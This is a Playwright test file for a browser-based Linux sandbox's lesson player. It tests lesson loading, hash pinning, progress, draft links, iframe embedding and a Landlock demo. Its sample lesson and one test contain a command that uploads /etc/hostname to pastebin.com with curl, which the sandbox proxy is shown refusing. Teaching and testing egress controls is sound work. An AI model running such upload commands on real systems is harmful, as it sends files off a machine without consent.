import { type BrowserContext, expect, type Page, test } from "@playwright/test";
import { BOOT_TIMEOUT_MS, closePlayground, openPlayground, typeAndWait, waitForGuest } from "./support/guest";
import { LESSON_BASE, lessonEvents, lessonLink, serveLesson, sha256 } from "./support/lessons";
import { routeZen, upstream } from "./support/upstreams";

// The lesson player in the real page with the real guest: a lesson loaded by its pinned URL,
// a task step failed then passed, a demo step run by its button, progress kept over a reload,
// "Save as lesson" and its draft link, a lesson whose bytes do not match its pin refused, and
// the embed's messages to the page that embeds it. One guest boot for the file (the reload,
// the draft link and the embed are further page loads).
test.describe.configure({ mode: "serial" });

const LESSON = `lesson: 1
title: Who decides
summary: Three things the page decides, each from the **one event log**.
steps:
  - title: Send a file to pastebin
    text: Upload \`/etc/hostname\` to pastebin.com with \`curl -T\`.
    type: task
    run: curl -sS -T /etc/hostname https://pastebin.com/api/upload
    expect:
      - verdict: host-not-allowed
        by: proxy
        target: pastebin.com
      - output: "CONNECT tunnel failed, response 40[0-9]"
    hint: The host must be pastebin.com, which the policy does not allow.
    explain: The proxy refused the CONNECT before any byte left the tab.
  - title: Ask the page's DNS
    text: The page answers the guest's DNS itself.
    type: demo
    run: nslookup example.com 10.0.2.2
    expect:
      - dns: example.com
    explain: The query crossed the wire and the page answered it.
  - title: Connect to an IP literal
    text: Try an address instead of a name.
    type: task
    run: curl -sS https://93.184.216.34/
    expect:
      - verdict: ip-literal
        by: proxy
    hint: Use an IP address in the URL.
    explain: The proxy refuses IP literals.
    solve: curl -sS https://93.184.216.34/
`;
const LESSON_URL = `${LESSON_BASE}who-decides.yaml`;
const PIN = sha256(LESSON);
const CHANGED_URL = `${LESSON_BASE}changed.yaml`;

let context: BrowserContext;
let page: Page;

test.beforeAll(async ({ browser }) => {
  test.setTimeout(BOOT_TIMEOUT_MS + 60_000);
  ({ context, page } = await openPlayground(browser, lessonLink(LESSON_URL, PIN), {
    refuseUnplanned: true,
    setup: async (c) => {
      await serveLesson(c, LESSON_URL, LESSON);
      // Served with different bytes than the link's pin was made from.
      await serveLesson(c, CHANGED_URL, LESSON.replace("Who decides", "Who decides (edited)"));
      await routeZen(c, "Practicality beats purity.");
    },
  }));
});
test.afterAll(async () => {
  await closePlayground(context ? { context, page } : undefined);
});

const card = (p: Page) => p.getByTestId("lesson-card");
const run = (p: Page) => p.getByTestId("lesson-run");

test("a lesson loaded by its pinned URL shows its first step, and the load is a lesson.load event", async () => {
  await expect(run(page)).toHaveAttribute("data-step", "1");
  await expect(card(page)).toContainText("Who decides");
  await expect(page.getByTestId("lesson-step")).toContainText("Send a file to pastebin");
  // The step's Markdown is elements built one by one: `code` is a <code>, nothing is raw HTML.
  await expect(page.getByTestId("lesson-step").locator("code").first()).toHaveText("/etc/hostname");
  expect(await lessonEvents(page)).toEqual(["load url 3"]);
  const pin = await page.evaluate(() => window.__tab?.features.lessons?.state().pin);
  expect(pin).toBe(PIN);
});

test("a task step: a different outcome fails with the hint and what decided; the expected one passes with its explanation", async () => {
  test.setTimeout(240_000);
  await typeAndWait(page, "curl -sS https://api.github.com/zen; echo");
  const attempt = page.getByTestId("lesson-attempt");
  await expect(attempt).toHaveAttribute("data-result", "failed", { timeout: 90_000 });
  await expect(page.getByTestId("lesson-hint")).toContainText("pastebin.com");
  await expect(run(page)).toHaveAttribute("data-step", "1");

  await typeAndWait(page, "curl -sS -T /etc/hostname https://pastebin.com/api/upload");
  await expect(run(page)).toHaveAttribute("data-step", "2", { timeout: 90_000 });
  await expect(attempt).toHaveAttribute("data-result", "passed");
  await expect(page.getByTestId("lesson-verdict")).toContainText("host-not-allowed");
  await expect(page.getByTestId("lesson-explain")).toContainText("The proxy refused the CONNECT");
  expect(await lessonEvents(page)).toEqual(["load url 3", "step 1 failed", "step 1 passed"]);
});

test("a demo step runs when its Run button is pressed, and passes on what the log recorded", async () => {
  test.setTimeout(180_000);
  await page.getByTestId("lesson-run-demo").click();
  await expect(run(page)).toHaveAttribute("data-step", "3", { timeout: 90_000 });
  await expect(page.getByTestId("lesson-explain")).toContainText("the page answered it");
  expect(await lessonEvents(page)).toContain("step 2 passed");
  await page.screenshot({ path: "docs/screenshots/lessons.png" }); // docs/guide.md, "Lessons"
});

test("progress is kept over a reload, and 'Show me' finishes the lesson", async () => {
  test.setTimeout(BOOT_TIMEOUT_MS);
  await page.reload();
  await expect(run(page)).toHaveAttribute("data-step", "3");
  await waitForGuest(page);
  await page.getByTestId("lesson-show-me").click();
  await expect(page.getByTestId("lesson-done")).toBeVisible({ timeout: 90_000 });
  expect(await lessonEvents(page)).toEqual(["load url 3", "step 3 passed"]);
});

test("'Save as lesson' drafts the commands run this session as YAML, and its draft link carries the lesson whole", async () => {
  test.setTimeout(120_000);
  await page.getByTestId("lesson-save").click();
  const yaml = page.getByTestId("lesson-draft-yaml");
  await expect(yaml).toHaveValue(/lesson: 1/);
  await expect(yaml).toHaveValue(/curl -sS https:\/\/93\.184\.216\.34\//);
  await expect(yaml).toHaveValue(/ip-literal/);
  const href = await page.getByTestId("lesson-draft-link").getAttribute("href");
  expect(href).toMatch(/#lesson-draft=/);
  expect(href).not.toContain("?");

  // The draft link on a page of its own: the lesson comes from the fragment, before the guest is up.
  const other = await context.newPage();
  try {
    await other.goto(href!);
    await expect(other.getByTestId("lesson-run")).toHaveAttribute("data-step", "1");
    await expect(other.getByTestId("lesson-card")).toContainText("Draft lesson");
    await expect.poll(() => lessonEvents(other)).toEqual([expect.stringMatching(/^load link \d+$/)]);
  } finally {
    await other.close();
  }
});

test("a lesson whose bytes do not match its pin is refused lesson-pin-mismatch, and nothing of it is shown", async () => {
  const other = await context.newPage();
  try {
    // Pinned to bytes this browser never cached (a cached pin would be served from the cache, as it should).
    await other.goto(lessonLink(CHANGED_URL, sha256(`${LESSON}# the version the link was made from\n`)));
    const refusal = other.getByTestId("lesson-refusal");
    await expect(refusal).toHaveAttribute("data-code", "lesson-pin-mismatch");
    await expect(refusal).toContainText("hashes to");
    await expect(other.getByTestId("lesson-run")).toHaveCount(0);
    await expect.poll(() => lessonEvents(other)).toEqual(["refused lesson-pin-mismatch"]);
  } finally {
    await other.close();
  }
});

test("embedded in an iframe, the lesson posts its load, its step started and passed to the embedding page", async () => {
  test.setTimeout(BOOT_TIMEOUT_MS);
  const base = new URL(page.url()).origin;
  // The docs page, served by routing beside the playground (Chromium here shows an error page for
  // a loopback iframe inside a routed page of another origin); the messages name it as the embedder.
  const EMBEDDER = base;
  const src = `${base}/?embed=1&lesson=${encodeURIComponent(`${LESSON_URL}#sha256=${PIN}`)}&step=2&embedder=${encodeURIComponent(EMBEDDER)}`;
  const html = `<!doctype html><title>docs</title><script>
    window.messages = [];
    addEventListener("message", (e) => { if (e.data && e.data.source === "linux-in-a-tab") window.messages.push({ origin: e.origin, ...e.data }); });
  </script><iframe id="demo" width="800" height="500" src="${src.replace(/&/g, "&amp;")}"></iframe>`;
  await context.route(`${EMBEDDER}/docs-embed.html`, upstream(200, { "content-type": "text/html" }, html));
  const docs = await context.newPage();
  try {
    docs.on("console", (m) => console.log(`[docs] ${m.text()}`));
    docs.on("pageerror", (e) => console.log(`[docs error] ${e.message}`));
    await docs.goto(`${EMBEDDER}/docs-embed.html`);
    const messages = () => docs.evaluate(() => (window.messages ?? []).map((m) => `${m.type}${m.step ? ` ${m.step}` : ""}`));
    await expect.poll(messages, { timeout: 60_000 }).toEqual(["lesson.loaded", "lesson.step-started 2"]);
    const frame = docs.frameLocator("#demo");
    await expect(frame.getByTestId("lesson-run-demo")).toBeEnabled({ timeout: BOOT_TIMEOUT_MS });
    await frame.getByTestId("lesson-run-demo").click();
    await expect
      .poll(messages, { timeout: 120_000 })
      .toEqual(["lesson.loaded", "lesson.step-started 2", "lesson.step-passed 2", "lesson.step-started 3"]);
    const origins = await docs.evaluate(() => [...new Set((window.messages ?? []).map((m) => m.origin))]);
    expect(origins).toEqual([base]);
  } finally {
    await docs.close();
  }
});

test("closing the lesson shows the index of the shipped lessons with their progress; one opens from it", async () => {
  await page.getByTestId("lesson-close").click();
  const index = page.getByTestId("lesson-index");
  await expect(index.locator("li")).toHaveCount(9);
  await index.locator('[data-lesson="01-tour"] button').click();
  await expect(run(page)).toHaveAttribute("data-step", "1");
  await expect.poll(() => lessonEvents(page)).toContain("load bundled 4");
});

test("a shipped lesson's filesystem refusal is judged on the kernel's own decision (lesson 03, step 2)", async () => {
  test.setTimeout(240_000);
  await page.getByTestId("lesson-close").click();
  await page.getByTestId("lesson-index").locator('[data-lesson="03-landlock-files"] button').click();
  await expect(run(page)).toHaveAttribute("data-step", "1");
  await typeAndWait(page, "llrun --ro / --rw /tmp -- sh -c 'echo written > /tmp/landlock-demo.txt && cat /tmp/landlock-demo.txt'");
  await expect(run(page)).toHaveAttribute("data-step", "2", { timeout: 90_000 });
  await typeAndWait(page, "llrun --ro / --rw /tmp -- sh -c 'echo nope > /root/landlock-demo.txt'");
  await expect(run(page)).toHaveAttribute("data-step", "3", { timeout: 90_000 });
  await expect(page.getByTestId("lesson-attempt")).toHaveAttribute("data-result", "passed");
  await expect(page.getByTestId("lesson-verdict")).toContainText("landlock-denied");
  await expect(page.getByTestId("lesson-verdict")).toContainText("kernel");
});
